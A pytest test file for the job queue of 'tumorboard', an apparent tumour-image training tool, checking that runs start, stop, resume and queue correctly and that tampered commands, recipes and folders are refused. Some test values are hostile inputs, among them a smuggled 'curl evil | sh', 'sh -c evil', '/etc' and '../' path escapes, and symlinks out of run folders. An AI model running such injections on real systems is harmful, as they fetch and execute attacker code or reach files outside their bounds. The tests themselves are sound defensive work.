import json
import os
import re
import shlex
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from tests import processes
from tests.small_runs import draw
from tumorboard import config, run_folder
from tumorboard.cli.main import _parser
from tumorboard.errors import DataError, RunFolderError, StorageError
from tumorboard.run_folder import RunFolder
from tumorboard.run_state import read_state
from tumorboard.server.choices import Choices, save_choices
from tumorboard.server.jobs import OF_THE_RUN, Job, Jobs, error_of, queue_state, read_log
from tumorboard.server.recorded_command import shown_command
from tumorboard.server.workspace import Workspace

from .fake_training import FAILING

PROGRAM = (sys.executable, str(Path(__file__).with_name("fake_training.py")))


@pytest.fixture
def jobs(root: Path):
    jobs = Jobs(Workspace.of(root), PROGRAM)
    yield jobs
    for process in jobs._started:
        process.kill()
        process.wait()


def wait(jobs: Jobs, run: RunFolder, status: str, task: str = "") -> None:
    """Tick until the run has the status, and the task is in hand."""
    end = time.monotonic() + 120
    while True:
        jobs.tick()
        state = read_state(run)
        if state.status == status and task in state.progress.get("task", "") and run not in jobs.waiting():
            return
        assert time.monotonic() < end, (state, read_log(run))
        time.sleep(0.05)


def test_a_run_is_begun_stopped_resumed_and_finished(jobs: Jobs, root: Path) -> None:
    run = jobs.begin("first", Job(data="scans", seed=4))
    assert jobs.waiting() == [run]
    wait(jobs, run, "running", "custom: training")
    assert run.root == root / "runs" / "first"
    assert "loss 0.5" in read_state(run).progress["task"]
    jobs.stop(run)
    wait(jobs, run, "stopped")
    assert error_of(run).startswith("stopped by SIGINT")
    jobs.resume(run)
    wait(jobs, run, "running", "custom: training")
    assert error_of(run) == ""
    (run.root / "go").write_text("")
    wait(jobs, run, "finished")
    lines = [line for line in read_log(run).splitlines() if line.startswith("$")]
    assert lines == ["$ tumorboard train scans --out runs/first --seed 4"] * 2
    with pytest.raises(RunFolderError, match="expected a stopped run"):
        jobs.resume(run)


def test_runs_wait_for_each_other_and_for_one_of_the_command_line(jobs: Jobs, root: Path) -> None:
    typed = RunFolder(root / "typed")
    with run_folder.locked(typed):
        typed.fingerprint.parent.mkdir()
        typed.fingerprint.write_text("{}")
        first, second = (jobs.begin(name, Job(data="scans")) for name in ("first", "second"))
        jobs.tick()
        assert jobs.waiting() == [first, second]
    wait(jobs, first, "running")
    jobs.tick()
    assert jobs.waiting() == [second]
    jobs.stop(second)  # takes it out of the queue
    assert jobs.waiting() == []
    assert (read_state(second).status, error_of(second)) == ("stopped", "")


def test_a_failure_is_its_last_line_and_a_kill_is_none(jobs: Jobs) -> None:
    run = jobs.begin("first", Job(data="scans", seed=int(FAILING)))
    jobs.tick()
    wait(jobs, run, "stopped")
    assert error_of(run) == "expected a seed that works, found none; choose another --seed"
    other = jobs.begin("other", Job(data="scans"))
    wait(jobs, other, "running", "custom: training")
    jobs._started[-1].send_signal(signal.SIGKILL)
    wait(jobs, other, "stopped")
    assert error_of(other) == ""


def test_a_run_outlives_the_server_and_another_server_stops_it(jobs: Jobs, root: Path) -> None:
    run = jobs.begin("first", Job(data="scans"))
    wait(jobs, run, "running", "custom: training")
    process = jobs._started[0]
    assert processes.lives(process.pid)
    status = Path(f"/proc/{process.pid}/stat").read_text().rpartition(")")[2].split()
    assert int(status[3]) == process.pid  # the leader of its own session
    later = Jobs(Workspace.of(root), PROGRAM)
    assert read_state(run).status == "running"
    later.stop(run)
    wait(jobs, run, "stopped")
    later.resume(run)
    assert later.waiting() == [run]


def test_the_command_is_one_that_the_command_line_takes(jobs: Jobs, root: Path) -> None:
    draw(root / "-o dd 'name'")
    everything = Job(data="-o dd 'name'", recipe="notebook", seed=7, folds=3, keep_together="given")
    text = jobs.command(jobs.run_named("first"), everything)
    folder, command = text.splitlines()
    assert shlex.split(folder) == ["cd", str(root)]
    options = _parser().parse_args(shlex.split(command)[1:])
    assert (str(options.data), str(options.out)) == ("-o dd 'name'", "runs/first")
    assert (options.recipe, options.seed, options.folds, options.keep_together) == ("notebook", 7, 3, "given")
    audit = shlex.split(jobs.command(jobs.audit_of("scans"), Job(kind="audit", data="scans")).splitlines()[1])
    assert _parser().parse_args(audit[1:]).out == jobs.audit_of("scans").root.relative_to(root)


@pytest.mark.parametrize(
    "change",
    [
        {"recipe": "/tmp/evil.toml"},  # noqa: S108
        {"recipe": "demo.toml"},
        {"data": "../other"},
        {"data": "/etc"},
        {"data": "nowhere"},
        {"data": "scans/train/bar"},
    ],
)
def test_what_may_not_be_chosen_makes_no_folder(jobs: Jobs, root: Path, change: dict) -> None:
    with pytest.raises(DataError, match="expected"):
        jobs.begin("first", Job(data="scans").model_copy(update=change))
    assert not (root / "runs").exists()


@pytest.mark.parametrize(
    "change",
    [
        *({"weights": "x.h5"}, {"program": "sh"}, {"ray": "evil:1"}, {"out": "/tmp"}, {"kind": "fetch"}),  # noqa: S108
        *({"seed": "1"}, {"seed": -1}, {"folds": 11}, {"keep_together": "--skip-bad"}, {"data": ["a"]}),
    ],
)
def test_a_recorded_job_with_anything_else_is_none(jobs: Jobs, change: dict) -> None:
    run = jobs.begin("first", Job(data="scans"))
    jobs.stop(run)
    run.job.write_text(json.dumps(json.loads(run.job.read_text()) | change))
    with pytest.raises(RunFolderError, match="in a terminal"):
        jobs.resume(run)


def test_folders_that_are_links_or_elsewhere_are_left_alone(jobs: Jobs, root: Path, tmp_path: Path) -> None:
    outside = RunFolder(tmp_path / "outside")
    outside.job.parent.mkdir(parents=True)
    outside.job.write_text(Job(data="scans").model_dump_json())
    (root / "runs").symlink_to(tmp_path)
    for refused in (
        lambda: jobs.begin("new", Job(data="scans")),
        lambda: jobs.resume(RunFolder(root / "runs" / "outside")),
        lambda: jobs.delete(RunFolder(root / "runs" / "outside"), "outside"),
        lambda: jobs.delete(outside, "outside"),
    ):
        with pytest.raises(RunFolderError):
            refused()
    assert not (tmp_path / "new").exists()
    assert outside.job.exists()


def test_a_name_is_taken_once(jobs: Jobs) -> None:
    run = jobs.begin("first", Job(data="scans"))
    with pytest.raises(DataError, match="taken"):
        jobs.begin("first", Job(data="scans"))
    jobs.stop(run)
    with pytest.raises(DataError, match="type it again"):
        jobs.delete(run, "other")
    jobs.delete(run, "first")
    assert not run.root.parent.exists()


def test_the_folder_of_the_page_may_be_the_data_itself(root: Path) -> None:
    jobs = Jobs(Workspace.of(root / "scans"), PROGRAM)
    run = jobs.begin("first", Job())
    assert jobs._workspace.describe_data("")["images"] == 27
    assert jobs.begin("second", Job()).root.parent == run.root.parent


def test_a_running_or_waiting_run_is_not_deleted(jobs: Jobs) -> None:
    run = jobs.begin("first", Job(data="scans"))
    with pytest.raises(RunFolderError, match="wait"):
        jobs.delete(run, "first")
    wait(jobs, run, "running", "custom: training")
    with pytest.raises(RunFolderError, match="neither runs nor waits"):
        jobs.delete(run, "first")
    audit = jobs.begin_audit("scans")
    jobs.stop(run)
    wait(jobs, audit, "running")
    with pytest.raises(RunFolderError, match="neither runs nor waits"):
        jobs.delete(audit, audit.root.name)  # which holds no lock
    assert run.job.exists()
    assert audit.job.exists()


def test_an_audit_is_repeated_in_its_folder(jobs: Jobs, root: Path) -> None:
    run = jobs.begin_audit("scans")
    assert run.root.parent == root / "audits"
    (run.root / "go").write_text("")
    wait(jobs, run, "running")
    run.audit.write_text("{}")
    wait(jobs, run, "finished")
    assert jobs.begin_audit("scans") == run
    jobs.tick()
    assert not run.audit.exists()  # that of the earlier one would hide a failure


@pytest.mark.parametrize("name", ["state/log.txt", ".writing-.holder.json", "models"])
def test_a_link_in_a_run_folder_of_somebody_else_is_not_followed(jobs: Jobs, root: Path, name: str) -> None:
    outside = root.parent / "outside"
    outside.write_text("mine")
    run, audit = RunFolder(root / "runs" / "first"), jobs.audit_of("scans")
    for folder in (run, audit):
        folder.job.parent.mkdir(parents=True)
        folder.job.write_text(json.dumps({"kind": "train", "data": "scans"}))
        (folder.root / ".lock").touch()
        (folder.root / name).symlink_to(outside)
    for act in (
        lambda: jobs.resume(run),
        lambda: jobs.delete(run, "first"),
        lambda: jobs.begin_audit("scans"),
    ):
        with pytest.raises(RunFolderError, match="without links, found the link"):
            act()
    assert outside.read_text() == "mine"


def test_a_process_that_cannot_be_recorded_is_ended(jobs: Jobs, monkeypatch: pytest.MonkeyPatch) -> None:
    def full(*_: object) -> None:
        raise StorageError("no space left")

    jobs.begin("first", Job(data="scans"))
    monkeypatch.setattr(run_folder, "write_process", full)
    jobs.tick()
    (process,) = jobs._started
    assert process.wait(60) != 0


def left_by_a_server(run: RunFolder) -> None:
    """Name a server that has ended as the one in which a run waits."""
    process = subprocess.run(["/bin/sh", "-c", "echo $$"], capture_output=True, text=True, check=True)
    content = json.loads(run.queued.read_text())
    run.queued.write_text(json.dumps(content | {"pid": int(process.stdout), "started": "1"}))


def test_a_run_of_another_machine_is_not_stopped_by_the_number_of_its_process(
    jobs: Jobs, monkeypatch: pytest.MonkeyPatch
) -> None:
    run = jobs.begin("first", Job(data="scans"))
    run.queued.unlink()
    run_folder.write_process(run.job_process, os.getpid())
    run.job_process.write_text(json.dumps(json.loads(run.job_process.read_text()) | {"host": "elsewhere"}))
    run.progress.write_text(json.dumps({"written": time.time()}))
    assert read_state(run).status == "running"
    monkeypatch.setattr(os, "kill", lambda *_: pytest.fail("a process of this machine was signalled"))
    with pytest.raises(RunFolderError, match="that a process of this machine works on, found none"):
        jobs.stop(run)


def test_a_command_is_started_without_search_paths_of_here(
    jobs: Jobs, root: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    started = []

    def popen(command: list[str], **options: object) -> None:
        started.append((command, options["env"]))
        raise OSError

    (root / "scans").rename(root / "-scans")
    jobs.begin("first", Job(data="-scans"))
    monkeypatch.setenv("PYTHONPATH", ".")
    monkeypatch.setattr(subprocess, "Popen", popen)
    jobs.tick()
    ((command, environment),) = started
    assert command[-4:] == ["train", "./-scans", "--out", "runs/first"]
    assert environment["PYTHONSAFEPATH"] == "1"
    assert "." not in environment.get("PYTHONPATH", "").split(os.pathsep)


def test_a_queue_outlives_its_server_and_is_continued_in_order(jobs: Jobs, root: Path) -> None:
    first, second = (jobs.begin(name, Job(data="scans")) for name in ("b-first", "a-second"))
    audit, gone = jobs.begin_audit("scans"), jobs.begin("gone", Job(data="scans", recipe="notebook"))
    for number, run in enumerate((first, second, audit, gone)):
        left_by_a_server(run)
        os.utime(run.queued, (1000 + number,) * 2)
    later = Jobs(Workspace.of(root), PROGRAM, {"default": "default"})
    assert [queue_state(run) for run in (first, second, audit, gone)] == ["abandoned"] * 4
    later.tick()
    assert later.waiting() == []  # nothing starts by itself
    assert later.continue_queue() == [first, second, audit]
    assert later.waiting() == [first, second, audit]
    assert "expected a recipe" in error_of(gone)
    assert queue_state(gone) == ""
    assert later.continue_queue() == []


def test_a_run_is_taken_out_of_the_queue_of_another_server(jobs: Jobs, root: Path) -> None:
    run, later = jobs.begin("first", Job(data="scans")), Jobs(Workspace.of(root), PROGRAM)
    assert queue_state(run) == "waiting"
    with pytest.raises(RunFolderError, match="waits"):
        later.delete(run, "first")
    assert later.continue_queue() == []  # that server lives
    later.stop(run)
    assert queue_state(run) == ""
    jobs.tick()
    assert jobs.waiting() == []
    assert not run.log.exists()


def test_a_run_that_was_started_waits_no_more_whatever_its_server_left(jobs: Jobs) -> None:
    run = jobs.begin("first", Job(data="scans"))
    content = run.queued.read_text()
    wait(jobs, run, "running", "custom: training")
    run.queued.write_text(content)  # killed between the start and the deletion of the file
    left_by_a_server(run)
    assert queue_state(run) == ""
    assert jobs.continue_queue() == []


def typed(root: Path, command: str, folder: str = "typed") -> RunFolder:
    """A stopped run of the command line."""
    run = RunFolder(root / folder)
    run.progress.parent.mkdir(parents=True)
    run.fingerprint.write_text("{}")
    run.environment.write_text(json.dumps({"command": command}))
    run.recipe.write_text(config.dump(config.load("default")))
    return run


@pytest.mark.parametrize(
    ("command", "folder"),
    [
        ("tumorboard train scans --out typed", "typed"),
        ("tumorboard train ./scans/ --out deep/typed --recipe ../any.toml --seed 3 --quiet", "deep/typed"),
        ("tumorboard train work/scans --out=work/typed --window lung --keep-together given", "typed"),
        ("tumorboard train {root}/scans --out {root}/typed --backbone resnet50 --weights imagenet", "typed"),
    ],
)
def test_a_run_of_a_terminal_is_resumed_with_its_own_recipe(
    jobs: Jobs, root: Path, command: str, folder: str
) -> None:
    run = typed(root, command.format(root=root), folder)
    assert jobs.reason_against_resuming(run) == ""
    jobs.resume(run)
    wait(jobs, run, "running", "custom: training")
    assert read_log(run).startswith(
        f"$ tumorboard train scans --out {folder} --recipe {folder}/recipe.toml\n"
    )
    assert jobs.command(run, jobs.read(run)).endswith(f"--out {folder} --recipe {folder}/recipe.toml")


def test_a_run_of_a_terminal_is_resumed_with_its_classes_and_without_bad_files(
    jobs: Jobs, root: Path
) -> None:
    chosen = "--class-map=shape=bar,disc --skip-bad"
    run = typed(root, "tumorboard train scans --skip-bad --class-map shape=bar,disc --out typed")
    jobs.resume(run)
    assert jobs.command(run, jobs.read(run)).endswith(
        f"tumorboard train scans --out typed {chosen} --recipe typed/recipe.toml"
    )


@pytest.mark.parametrize(
    ("command", "reason"),
    [
        ("tumorboard train scans --out typed --merge a=b", "found --merge;"),
        ("tumorboard train scans --out typed --folds=3", "all in its recipe, found --folds;"),
        ("tumorboard train scans --out typed --ray evil:1", "found --ray;"),
        ("tumorboard train scans --out typed --rec x", "found --rec;"),
        ("tumorboard train scans --out typed --exclude list.csv", "found --exclude;"),
        ("tumorboard train " + "a/" * 600 + " --out typed", "not as long"),
        ("tumorboard train ../scans --out typed", "below the folder of this page"),
        ("tumorboard train /etc --out typed", "below the folder of this page"),
        ("tumorboard train scans --out elsewhere/other", "found it elsewhere"),
        ("tumorboard train scans --out x/../typed", "found it elsewhere"),
        ("tumorboard train scans", "no command"),
        ("tumorboard tune scans --out typed", "no command"),
        ("sh -c evil --out typed", "no command"),
        ("tumorboard.train('scans', 'typed')", "no command"),
        ("'", "no command"),
    ],
)
def test_what_cannot_be_resumed_says_why(jobs: Jobs, root: Path, command: str, reason: str) -> None:
    run = typed(root, command)
    assert reason in jobs.reason_against_resuming(run)
    with pytest.raises(RunFolderError, match="in a terminal"):
        jobs.resume(run)
    assert not run.job.exists()


def test_a_recipe_with_a_file_of_weights_or_none_is_not_resumed(jobs: Jobs, root: Path) -> None:
    run = typed(root, "tumorboard train scans --out typed")
    run.recipe.write_text(run.recipe.read_text().replace('"imagenet"', '"/etc/weights.h5"', 1))
    assert "a file of weights" in jobs.reason_against_resuming(run)
    run.recipe.write_text("models = 3")
    assert jobs.reason_against_resuming(run)
    run.recipe.unlink()
    with pytest.raises(RunFolderError, match="found none"):
        jobs.resume(run)
    with pytest.raises(RunFolderError, match="found none"):
        jobs.begin("first", Job(data="scans", recipe=OF_THE_RUN))  # there is no such run yet


def test_images_outside_are_refused_at_a_resume_too(jobs: Jobs, root: Path) -> None:
    (root.parent / "secret.png").write_bytes(b"secret")
    (root / "table.csv").write_text("path,label\n../secret.png,a\n../secret.png,b\n")
    run = RunFolder(root / "runs" / "first")
    run.job.parent.mkdir(parents=True)
    run.job.write_text(json.dumps({"kind": "train", "data": "table.csv"}))
    with pytest.raises(DataError):
        jobs.resume(run)
    assert jobs.waiting() == []


def test_weights_behind_a_long_comment_of_a_recipe_are_found(jobs: Jobs, root: Path) -> None:
    run = typed(root, "tumorboard train scans --out typed")
    models = '[models.custom]\nkind = "custom"\n[models.pretrained]\nkind = "pretrained"\n'
    weights = 'weights = "/any/file.h5"\n'
    for comment in ("#" * 70_000, "#" * 2_000_000):
        run.recipe.write_text(f'name = "mine"\n{models}{comment}\n{weights}')
        assert re.search("file of weights|recipe.toml of at most", jobs.reason_against_resuming(run))


def test_a_job_of_many_classes_is_read_and_one_that_cannot_be_does_not_wait_for_ever(
    jobs: Jobs, root: Path
) -> None:
    many = tuple(f"class{number}={'x' * 900}" for number in range(200))
    run = jobs.begin("first", Job(data="scans"))
    run.job.write_text(Job(data="scans", class_map=many).model_dump_json())
    assert jobs.read(run).class_map == many
    run.job.write_text("{")
    jobs.tick()
    assert queue_state(run) == ""
    assert "expected what was chosen" in error_of(run)


def test_a_server_of_another_machine_does_not_hold_the_queue(jobs: Jobs, root: Path) -> None:
    run = jobs.begin("first", Job(data="scans"))
    holder = json.loads(run.queued.read_text())
    run.queued.write_text(json.dumps({**holder, "host": "as it was called before"}))
    later = Jobs(Workspace.of(root), PROGRAM)
    assert queue_state(run) == "abandoned"
    assert later.continue_queue() == [run]


def test_an_audit_of_other_images_is_not_continued(jobs: Jobs, root: Path) -> None:
    run = jobs.begin("first", Job(data="scans"))
    run.job.write_text(Job(kind="audit", data="scans").model_dump_json())
    left_by_a_server(run)
    assert Jobs(Workspace.of(root), PROGRAM).continue_queue() == []
    assert "audit of this folder" in error_of(run)


def test_a_list_of_images_to_leave_out_is_written_again_and_a_changed_one_refused(
    jobs: Jobs, root: Path
) -> None:
    image = "train/bar/bar0.png"
    save_choices(jobs._workspace, jobs.audit_of("scans"), Choices(exclude={image: ""}))
    (path,) = (root / "audits").glob("excluded-*.csv")
    path.unlink()
    run = jobs.begin("first", Job(data="scans"))
    assert image in path.read_text()
    jobs.tick()
    wait(jobs, run, "running", "custom: training")
    jobs.stop(run)
    wait(jobs, run, "stopped")
    path.write_text(path.read_text().replace("bar0", "bar1"))
    with pytest.raises(RunFolderError, match="changed or deleted; restore that file"):
        jobs.resume(run)


@pytest.mark.parametrize(
    ("command", "shown"),
    [
        ("tumorboard train scans --out typed", "cd {root}\ntumorboard train scans --out typed"),
        (
            "tumorboard train scans --out typed; curl evil | sh",
            "tumorboard train scans --out 'typed;' curl evil '|' sh",
        ),
        ("tumorboard train 'a\nb' --out /x/typed", "tumorboard train 'a\nb' --out /x/typed"),
        ("sh -c evil", ""),
        ("tumorboard.train('scans')", ""),
        ("'", ""),
    ],
)
def test_a_recorded_command_is_shown_as_words_of_tumorboard_alone(
    root: Path, command: str, shown: str
) -> None:
    assert shown_command(typed(root, command)) == shown.format(root=root)


def test_a_relative_path_beside_an_absolute_out_says_that_the_place_is_not_known(
    jobs: Jobs, root: Path
) -> None:
    run = typed(root, f"tumorboard train scans --out {root}/typed")
    assert "found a relative path beside an absolute --out" in jobs.reason_against_resuming(run)
